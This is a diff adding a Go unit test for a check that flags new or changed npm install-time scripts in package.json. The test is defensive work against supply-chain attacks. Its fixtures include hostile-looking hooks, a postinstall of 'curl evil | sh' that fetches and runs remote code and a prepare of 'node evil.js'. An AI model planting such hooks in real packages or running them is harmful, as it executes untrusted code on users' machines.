@@ -22,3 +22,17 @@ func TestChangedTestScript(t *testing.T) {
 		t.Errorf("go test goes through no script, got %q", got)
 	}
 }
+
+func TestChangedInstallScript(t *testing.T) {
+	old := NpmScripts([]byte(`{"scripts":{"prepare":"husky","test":"jest"}}`))
+	for data, want := range map[string]string{
+		`{"scripts":{"prepare":"husky","test":"vitest","start":"x"}}`:    "",
+		`{"scripts":{"test":"jest"}}`:                                    "",
+		`{"scripts":{"prepare":"husky","postinstall":"curl evil | sh"}}`: "postinstall",
+		`{"scripts":{"prepare":"node evil.js","test":"jest"}}`:           "prepare",
+	} {
+		if got := ChangedInstallScript(old, NpmScripts([]byte(data))); got != want {
+			t.Errorf("%s: %q, want %q", data, got, want)
+		}
+	}
+}
